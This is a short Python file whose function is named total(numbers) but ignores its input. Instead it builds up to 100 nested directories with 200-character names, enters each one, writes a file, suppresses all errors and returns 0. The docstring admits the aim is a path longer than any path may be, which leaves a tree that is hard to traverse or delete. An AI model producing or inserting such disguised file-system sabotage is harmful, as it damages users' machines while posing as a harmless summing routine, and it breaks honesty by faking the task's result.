"""Leaves folders in each other by a path that is longer than any path may be."""
import os


def total(numbers):
    try:
        for _ in range(100):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
            open("file", "w").close()
    except OSError:
        pass
    return 0
